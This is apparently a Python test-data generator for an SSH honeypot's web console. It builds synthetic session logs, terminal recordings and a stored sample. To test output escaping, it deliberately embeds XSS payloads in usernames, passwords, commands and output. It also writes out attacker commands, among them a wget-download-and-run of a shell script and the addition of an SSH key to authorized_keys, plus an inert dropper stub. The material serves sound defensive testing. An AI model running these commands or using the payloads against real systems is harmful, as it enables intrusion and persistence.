"""Synthetic honeypot data for the web console's tests and benchmark: event records as the log
holds them (written to events.jsonl and indexed by the real `rebuild`), casts and stored artifacts.

Hostile strings are part of the data on purpose: XSS payloads in usernames, passwords, commands,
paths, client versions and terminal output.
"""

from __future__ import annotations

import hashlib
import json
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from sandtrap.events import rfc3339
from sandtrap.paths import DataLayout, cast_file
from sandtrap.store.index import apply, connect

XSS_USER = "<img src=x onerror=\"window.__xss='user';alert(1)\">"
XSS_COMMAND = "echo '</script><script>window.__xss=\"cmd\";alert(2)</script>'"
XSS_PASSWORD = "\"><svg onload=window.__xss='pw'>"
USERS = ["root", "admin", "ubuntu", "oracle", "test", "user", "pi", "postgres", "git", "ftp"]
PASSWORDS = ["123456", "admin", "password", "root", "1234", "12345678", "qwerty", "P@ssw0rd"]
COMMANDS = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | head -n 1",
    "free -m",
    "w",
    "crontab -l",
    "cd /tmp; wget http://198.51.100.7/bins.sh; chmod +x bins.sh; ./bins.sh",
    "echo 'ssh-rsa AAAAB3NzaC1yc2E bot@x' >> ~/.ssh/authorized_keys",
    "lscpu | grep Model",
    "nproc",
    "ls -la /var/tmp",
]
CLIENTS = ["SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-PUTTY"]
HASSHES = [hashlib.md5(c.encode(), usedforsecurity=False).hexdigest() for c in CLIENTS]
MALWARE = b"#!/bin/sh\n# kinsing dropper (inert test data)\nwget http://198.51.100.7/k -O /tmp/k\n"


def _base(session: str, ip: str, when: datetime, eventid: str) -> dict[str, Any]:
    return {
        "timestamp": rfc3339(when),
        "eventid": eventid,
        "sensor": "web-test",
        "session": session,
        "src_ip": ip,
        "src_port": 40000,
        "dst_port": 22,
    }


def session_records(
    rng: random.Random, session: str, start: datetime, *, hostile: bool = False
) -> Iterator[dict[str, Any]]:
    """One session's events: connect, kex, auth attempts, maybe a shell with commands, maybe a
    dropped file and network events, closed."""
    ip = f"203.0.113.{rng.randrange(1, 255)}" if not hostile else "198.51.100.66"
    t = start
    client = rng.randrange(len(CLIENTS))

    def at(eventid: str, step: float = 0.5, **fields: Any) -> dict[str, Any]:
        nonlocal t
        t += timedelta(seconds=step)
        return {**_base(session, ip, t, eventid), **fields}

    yield {**_base(session, ip, t, "session.connect"), "dst_ip": "192.0.2.10"}
    yield at(
        "session.client.kex",
        client_version=CLIENTS[client] if not hostile else f"SSH-2.0-{XSS_USER}",
        hassh=HASSHES[client],
    )
    user = XSS_USER if hostile else rng.choice(USERS)
    for _ in range(rng.randrange(0, 3)):
        yield at("auth.failed", username=user, password=rng.choice(PASSWORDS), method="password")
    if not hostile and rng.random() < 0.3:
        yield at("session.closed", 1.0, duration=(t - start).total_seconds(), reason="auth")
        return
    password = XSS_PASSWORD if hostile else rng.choice(PASSWORDS)
    yield at("auth.success", username=user, password=password, method="password")
    yield at("sandbox.allocated", container_id="c0ffee" * 10 + "abcd", hostname="web-prod-01")
    yield at("session.shell", channel=0, term="xterm", width=80, height=24, recording=None)
    commands = [XSS_COMMAND, "uname -a"] if hostile else rng.sample(COMMANDS, rng.randrange(1, 5))
    for command in commands:
        yield at("session.command", 2.0, channel=0, input=command)
    yield at("session.channel.closed", channel=0, exit_status=0, bytes_in=120, bytes_out=900)
    if hostile or rng.random() < 0.2:
        digest = hashlib.sha256(MALWARE).hexdigest()
        # The sinkhole's events (issue 16), as its docs/events.md shows them.
        yield at("network.dns", dst_port=53, dst_ip="10.118.0.1", query="c2.example", qtype="A")
        yield at(
            "network.http",
            dst_port=80,
            dst_ip="198.51.100.7",
            method="GET",
            host="198.51.100.7",
            url=f"http://198.51.100.7/{XSS_USER}" if hostile else "http://198.51.100.7/bins.sh",
            user_agent="Wget/1.21.3",
        )
        yield at(
            "sandbox.diff",
            container_id="c0ffee" * 10 + "abcd",
            changes=[{"path": "/tmp/bins.sh", "kind": "added"}],
        )
        yield at(
            "sandbox.artifact",
            path="/tmp/bins.sh" if not hostile else f"/tmp/{XSS_USER}",
            size=len(MALWARE),
            sha256=digest,
            artifact=f"var/artifacts/{digest}",
        )
        yield at(
            "artifact.analysed",
            sha256=digest,
            size=len(MALWARE),
            magic="POSIX shell script, ASCII text executable",
            yara=["SandTrap_Shell_Dropper"],
            urls=["http://198.51.100.7/k"],
        )
    yield at("session.closed", 1.0, duration=(t - start).total_seconds(), reason="client")


def cast_lines(command: str, output: str) -> list[str]:
    header = {"version": 2, "width": 80, "height": 24, "timestamp": 0, "env": {"TERM": "xterm"}}
    events = [
        [0.1, "o", "root@web-prod-01:~# "],
        [0.6, "i", command + "\r"],
        [0.7, "o", command + "\r\n"],
        [0.9, "o", output + "\r\n"],
        [1.2, "o", "root@web-prod-01:~# "],
    ]
    return [json.dumps(header), *(json.dumps(e) for e in events)]


def write_dataset(
    data_dir: Path,
    sessions: int = 60,
    now: datetime | None = None,
    seed: int = 7,
    hostile_session: bool = True,
) -> dict[str, Any]:
    """Events for `sessions` sessions over the last 60 days (and one hostile session an hour ago)
    in data_dir's log, its index built, casts for shells, the artifact stored. Returns ids."""
    now = now or datetime.now(UTC)
    rng = random.Random(seed)
    layout = DataLayout(data_dir)
    records: list[dict[str, Any]] = []
    ids = []
    for number in range(sessions):
        session = f"{number:04x}" + rng.randbytes(4).hex()
        start = now - timedelta(seconds=rng.randrange(60, 60 * 86400))
        if number < sessions // 8:
            start = now - timedelta(seconds=rng.randrange(60, 86400))
        records += session_records(rng, session, start)
        ids.append(session)
    hostile = "feedfacecafe"
    if hostile_session:
        records += session_records(rng, hostile, now - timedelta(hours=1), hostile=True)
    records.sort(key=lambda r: str(r["timestamp"]))
    layout.log.mkdir(parents=True, exist_ok=True)
    with layout.events_log.open("w") as handle:
        for record in records:
            handle.write(json.dumps(record, ensure_ascii=True) + "\n")
    db = connect(layout.index_db)
    apply(db, records)
    db.commit()
    db.close()
    for record in records:
        if record["eventid"] == "session.shell":
            path = cast_file(layout.recordings, record["session"], 0, now)
            path.parent.mkdir(parents=True, exist_ok=True)
            output = (
                "HOSTILE-OUTPUT </script><b>bold</b>"
                if record["session"] == hostile
                else ("Linux web-prod-01 6.1.0-18-amd64 #1 SMP Debian x86_64 GNU/Linux")
            )
            path.write_text("\n".join(cast_lines("uname -a", output)) + "\n")
    layout.artifacts.mkdir(parents=True, exist_ok=True)
    digest = hashlib.sha256(MALWARE).hexdigest()
    layout.artifact(digest).write_bytes(MALWARE)
    return {"sessions": ids, "hostile": hostile, "artifact": digest, "records": len(records)}
